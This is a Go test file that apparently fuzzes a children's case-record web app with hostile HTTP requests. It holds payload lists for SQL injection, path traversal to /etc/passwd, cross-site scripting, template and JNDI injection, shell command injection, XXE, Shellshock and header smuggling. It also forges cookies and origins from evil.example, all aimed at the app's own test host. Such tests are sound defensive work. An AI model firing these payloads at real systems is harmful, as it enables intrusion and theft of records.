package web

import (
	"bytes"
	"fmt"
	"mime/multipart"
	"net/textproto"
	"net/url"
	"slices"
	"strings"
)

const (
	markup   = `<wz7x"'>`  // stands in what is sent; in a page it must be written otherwise
	injected = "wz7header" // the same, for headers
)

// disclosures are what no answer may hold: another child's data, and words that
// only the machinery speaks.
var disclosures = []string{
	secret, "goroutine ", "runtime error", "panic:", ".go:", "SQL logic", "SQLSTATE", "syntax error", "no such column", "no such table",
	"constraint failed", "sqlite", "pgx", "root:x:0", "-----BEGIN", "html/template", "reflect.", "interface conversion", "internal/", "record.db",
}

// payloads are what people try, in places where an id, a code, a day or a word
// is expected.
var payloads = []string{
	`' OR '1'='1`, `'; DROP TABLE events; --`, `1) UNION ALL SELECT body FROM notes --`, `" OR 1=1 --`, `') OR ('a'='a`, `1; UPDATE children SET surname=''`, `%' --`, `\'; --`, `$1`, `$9999`, `?`, `:id`, `@x`,
	"../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", `..\..\windows\win.ini`, "....//....//etc/passwd", "/etc/passwd", "file:///etc/passwd", "..;/", "%2e%2e/", "..%c0%af..", ".git/config", ".env", "~root",
	markup, `<script>alert(1)</script>` + markup, `"onmouseover="x` + markup, `javascript:alert(1)` + markup, `</title>` + markup, `</textarea>` + markup, `<!--` + markup, `<svg/onload=1>` + markup, `&lt;` + markup,
	"{{.}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('x')()}}", "${jndi:ldap://192.0.2.1/a}", "%{#x}", "%s%n%x%p", "%!v(PANIC=)", "@{children}",
	"; cat /etc/passwd", "| id", "`id`", "$(id)", "& dir", "\n id",
	"*)(uid=*))(|(uid=*", "' or ''='", `{"$gt":""}`, `[$ne]=1`, "\r\nSet-Cookie: " + injected + "=1", "%0d%0a" + injected + ":1", "\r\n\r\n<html>" + markup,
	"\x00", "a\x00b", "\xff\xfe", "\xc3\x28", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\u202e\u2066", "\ufeff", "İı", "ﬀ", "Ω\u0301\u0301\u0301", strings.Repeat("\u0301", 50), "👩‍👩‍👧",
	"0", "-1", "1e309", "NaN", "0x10", "9223372036854775808", "-9223372036854775809", "99999999999999999999999", "1.5", "٣", "", " ", "null", "undefined", "true", "nil", "[object Object]",
	"2026-02-30", "0000-00-00", "-0001-01-01", "9999-12-31", "10000-01-01", "2026-11-23T00:00:00Z", "23/11/2026", "292277026596-12-04",
	strings.Repeat("A", 5_000), strings.Repeat("%41", 2_000), strings.Repeat("'", 300), strings.Repeat("(", 2_000), strings.Repeat("a*", 1_000), "=cmd|'/c calc'!A1", "@SUM(1)", "+1", "-1+1",
}

// extras are fields that no form has: what they would set is not for whoever
// sends them to say.
var extras = []string{
	"id", "child_id", "child", "by", "by_id", "by_name", "at", "recorded_at", "recorded_by", "seq", "n", "role", "user", "user_id", "admin", "is_admin", "team_id", "officer_id", "officer", "owner_id", "owner",
	"session", "token", "csrf", "provenance", "digest", "bytes", "size", "removed_at", "act", "subject", "stamp", "away_from", "cover_id", "Role", "User.Role", "user[role]", "__proto__[admin]", "_method", "then", "next", "return", "redirect",
}

// takesText is the forms in which any words at all are lawful, so that what is
// typed is kept as it stands. From somebody who may send them, they are sent as
// only another site or a broken browser would.
var takesText = []string{
	"POST /cases/{id}/notes", "POST /cases/{id}/documents", "POST /cases/{id}/documents/{doc}/remove", "POST /cases/{id}/documents/{doc}/restore", "POST /views", "POST /work/note", "POST /cases/{id}/retention/hold", "POST /cases/{id}/restriction", "POST /signin", "POST /signout",
}

// attacks is every kind of hostile request. Each gives the request as it goes
// over the wire, or nil where there is none of the kind.
var attacks = []struct {
	name string
	send func(a *attacker, d door, persona string) []byte
}{
	{"address", func(a *attacker, d door, persona string) []byte {
		if !strings.Contains(d.path, "{") && d.method == "POST" {
			return nil
		}
		at := a.filled(d.path, func(string) string { return a.escaped(a.payload()) })
		if a.dice.IntN(3) == 0 || !strings.Contains(d.path, "{") {
			at = a.at(d.path) + a.oneOf("/", "//", "/.", "/..", "/../", "/%2e%2e/%2e%2e/etc/passwd", ";x=1", "%00", "%20", ".csv", ".php", "/"+a.escaped(a.payload()))
			if d.method == "POST" { // a stray character may be all that is wrong
				return a.request(d.method, at, persona, "Sec-Fetch-Site: cross-site")
			}
		}
		return a.request(d.method, at, persona)
	}},
	{"query", func(a *attacker, d door, persona string) []byte {
		if d.method != "GET" {
			return nil
		}
		return a.request(d.method, a.at(d.path)+"?"+a.typed(1+a.dice.IntN(6)), persona)
	}},
	{"form", func(a *attacker, d door, persona string) []byte { return a.form(d, persona, a.typed(30)) }},
	{"over-posting", func(a *attacker, d door, persona string) []byte {
		all := []string{}
		for range 20 {
			all = append(all, url.QueryEscape(extras[a.dice.IntN(len(extras))])+"="+url.QueryEscape(a.oneOf("tom", "manager", "1", a.other, "true", a.payload())))
		}
		return a.form(d, persona, strings.Join(all, "&")+"&"+a.typed(5))
	}},
	{"cross-site", func(a *attacker, d door, persona string) []byte {
		return a.request("POST", a.at(d.path), persona, a.oneOf("Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: same-site", "Origin: https://evil.example", "Origin: null", "Origin: http://weald.example.evil.example"), a.typed(20))
	}},
	{"forged session", func(a *attacker, d door, persona string) []byte {
		cookie := "weald=" + a.escaped(a.payload())
		if real := a.cookies[persona]; real != "" && a.dice.IntN(4) > 0 {
			name, token, _ := strings.Cut(strings.Split(real, "; ")[a.dice.IntN(strings.Count(real, "; ")+1)], "=")
			cookie = a.oneOf(name+"="+token[:len(token)/2], name+"="+strings.ToUpper(token), name+"="+token+"x", strings.ToUpper(name)+"="+token, "x"+name+"="+token, name+"=; "+name+"=' OR 1=1 --", name+"=amina", name+`={"user":"tom"}`,
				name+"=x; user=tom; role=manager; admin=1", name+"="+strings.Repeat("B", 6_000), name+"="+token[1:]+token[:1])
		}
		return wire(d.method, a.at(d.path), []string{"Cookie: " + cookie, "Authorization: Bearer " + a.escaped(a.payload())}, a.typed(10))
	}},
	{"header", func(a *attacker, d door, persona string) []byte {
		head := []string{a.oneOf("X-Forwarded-Host: "+injected+".example", "X-Forwarded-For: 127.0.0.1", "X-Original-URL: /cases", "X-Rewrite-URL: /cases/"+a.other, "X-HTTP-Method-Override: DELETE", "Forwarded: for=127.0.0.1;host="+injected,
			"Referer: https://"+injected+".example/", "Range: bytes=0-1,2-3,-9999999", "If-Modified-Since: never", "If-None-Match: *", "Accept: "+a.plain(), "Accept-Language: "+a.plain(), "Accept-Encoding: "+a.plain(), "User-Agent: () { :; }; id "+a.plain(),
			"X-User: tom", "X-Remote-User: tom", "Remote-User: tom", "Upgrade: h2c", "Connection: keep-alive, Cookie", "Expect: 100-continue", "Transfer-Encoding: chunked, identity", "Content-Length: 5\r\nContent-Length: 6", "Cookie: a="+strings.Repeat("b", 9_000), "X-Long: "+strings.Repeat("c", 60_000), "Bad Header: x", ": x", "Host: "+injected+".example")}
		if d.method == "POST" {
			head = append(head, "Sec-Fetch-Site: cross-site")
		}
		return a.request(d.method, a.at(d.path), persona, head...)
	}},
	{"oversized", func(a *attacker, d door, persona string) []byte {
		if d.method == "GET" {
			return a.request("GET", a.at(d.path)+"?"+a.name()+"="+strings.Repeat(a.oneOf("a", "%41", "%C3%A9", "+"), 10_000), persona)
		}
		if a.dice.IntN(8) > 0 { // the largest are few
			return a.form(d, persona, a.name()+"="+strings.Repeat(a.oneOf("a", "%27"), 30_000))
		}
		return a.form(d, persona, a.oneOf(a.name()+"="+strings.Repeat("a", 11<<20), strings.Repeat("a=b&", 200_000), strings.Repeat(a.name()+"=1&", 20_000)))
	}},
	{"encoding", func(a *attacker, d door, persona string) []byte {
		if d.method == "GET" {
			return a.request("GET", a.at(d.path)+"?"+a.name()+"="+a.oneOf("%", "%zz", "%f", "%ff%fe", "%c0%80", "%u0041", "a;b=c", "%25%32%37", "&&&=&=", "[]=1", "a[b][c]=1", "+%00"), persona)
		}
		body := a.oneOf("%", "a=%zz", "note=%ff%fe%00", `{"note":"x","kind":"plan-finalised"}`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, "a;b", "\xef\xbb\xbfnote=x", "n\x00o\x00t\x00e\x00=\x00x\x00")
		return a.sent(d, persona, body, "Content-Type: "+a.oneOf("application/json", "text/xml", "text/plain", "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary="+strings.Repeat("x", 200), "application/x-www-form-urlencoded; charset=utf-16", "", "x", "multipart/mixed; boundary=x"))
	}},
	{"upload", func(a *attacker, d door, persona string) []byte {
		if d.method != "POST" {
			return nil
		}
		var body bytes.Buffer
		parts := multipart.NewWriter(&body)
		for range 1 + a.dice.IntN(3) {
			h := textproto.MIMEHeader{"Content-Disposition": {`form-data; name="` + a.name() + `"; filename="` + strings.NewReplacer("\r", "", "\n", "", `"`, "").Replace(a.payload()) + `"`}, "Content-Type": {a.oneOf("image/png", "text/html", "application/pdf", "x")}}
			w, err := parts.CreatePart(h)
			if err != nil {
				return nil
			}
			_, _ = w.Write([]byte(a.oneOf("MZ\x90\x00", "\x7fELF", "#!/bin/sh\nid", "<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>", "%PDF-1.7\n/JavaScript", "PK\x03\x04", "\x89PNG\r\n\x1a\n", "GIF89a<script>", "")))
		}
		_ = parts.WriteField(a.name(), a.payload())
		if a.dice.IntN(4) > 0 {
			_ = parts.Close() // else it is cut short
		}
		return a.sent(d, persona, body.String(), "Content-Type: "+parts.FormDataContentType())
	}},
	{"method", func(a *attacker, d door, persona string) []byte {
		method := a.oneOf("PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "HEAD", "CONNECT", "PROPFIND", "get", "POSTT", "POST")
		if method == "POST" {
			return a.request(method, a.at(d.path), persona, "Sec-Fetch-Site: cross-site")
		}
		return a.request(method, a.at(d.path), persona, a.typed(5))
	}},
	{"another's id", func(a *attacker, d door, persona string) []byte {
		if !strings.Contains(d.path, "{") || strings.HasPrefix(d.path, "/rules/") {
			return nil
		}
		at := a.filled(d.path, func(name string) string {
			switch name {
			case "id":
				if a.closed[persona] {
					return a.other
				}
				return a.oneOf(a.ours["id"][0], strings.ToUpper(a.other), a.other+"%20", a.other+"%00", a.other+"'", "%20"+a.other, a.other+"%2F..", a.other+"%3F", "*", "%25", "_")
			case "doc":
				return a.theirs
			case "seq", "n":
				return a.oneOf("0", "-1", "99999", "1x", "01e1", "9223372036854775807")
			}
			return a.oneOf("ben", a.other, "jane", "nobody")
		})
		if at == a.at(d.path) {
			return nil
		}
		return a.request(d.method, at, persona, a.typed(5))
	}},
}

func (a *attacker) oneOf(all ...string) string { return all[a.dice.IntN(len(all))] }
func (a *attacker) payload() string            { return payloads[a.dice.IntN(len(payloads))] }
func (a *attacker) name() string               { return url.QueryEscape(a.names[a.dice.IntN(len(a.names))]) }

// plain is a payload that a header can hold.
func (a *attacker) plain() string {
	return strings.NewReplacer("\r", "", "\n", "", "\x00", "").Replace(a.payload())
}

// escaped writes a payload as part of an address: as a browser would or, where
// that can be sent at all, as it stands.
func (a *attacker) escaped(s string) string {
	if a.dice.IntN(4) == 0 && !strings.ContainsAny(s, " \r\n\x00?#") {
		return s
	}
	return url.PathEscape(s)
}

// typed is n fields that pages have, filled with payloads.
func (a *attacker) typed(n int) string {
	all := make([]string, n)
	for i := range all {
		all[i] = a.name() + "=" + url.QueryEscape(a.payload())
	}
	return strings.Join(all, "&")
}

// form is a form filled in with hostile words.
func (a *attacker) form(d door, persona, body string) []byte {
	if d.method != "POST" {
		return nil
	}
	return a.sent(d, persona, body, "Content-Type: application/x-www-form-urlencoded")
}

// sent is a body sent to an address. Where any words would be lawful there and
// the persona may send them, it comes as only another site would send it.
func (a *attacker) sent(d door, persona, body, kind string) []byte {
	if d.method != "POST" {
		return nil
	}
	head := []string{kind, "Cookie: " + a.cookies[persona]}
	if may := d.opens[persona]; slices.Contains(takesText, d.method+" "+d.path) && may != "refused" && may != "sign-in" {
		head = append(head, a.oneOf("Sec-Fetch-Site: cross-site", "Origin: https://evil.example"))
	}
	return wire(d.method, a.at(d.path), head, body)
}

// request is a request by a persona. What follows is lines of its head, and a
// body if it holds no colon and space.
func (a *attacker) request(method, at, persona string, more ...string) []byte {
	head, body := []string{"Cookie: " + a.cookies[persona]}, ""
	for _, line := range more {
		if strings.Contains(line, ": ") {
			head = append(head, line)
		} else {
			body = line
		}
	}
	if body != "" && method != "GET" && method != "HEAD" {
		head = append(head, "Content-Type: application/x-www-form-urlencoded")
	} else {
		body = ""
	}
	return wire(method, at, head, body)
}

// wire writes a request as it is sent.
func wire(method, at string, head []string, body string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", method, at)
	if !slices.ContainsFunc(head, func(line string) bool { return strings.HasPrefix(line, "Host: ") }) {
		b.WriteString("Host: weald.example\r\n")
	}
	for _, line := range head {
		b.WriteString(line + "\r\n")
	}
	if method == "GET" || method == "HEAD" {
		body = ""
	}
	if body != "" {
		if !slices.ContainsFunc(head, func(line string) bool { return strings.HasPrefix(line, "Content-Type:") }) {
			b.WriteString("Content-Type: application/x-www-form-urlencoded\r\n")
		}
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	}
	b.WriteString("Connection: close\r\n\r\n" + body)
	return b.Bytes()
}
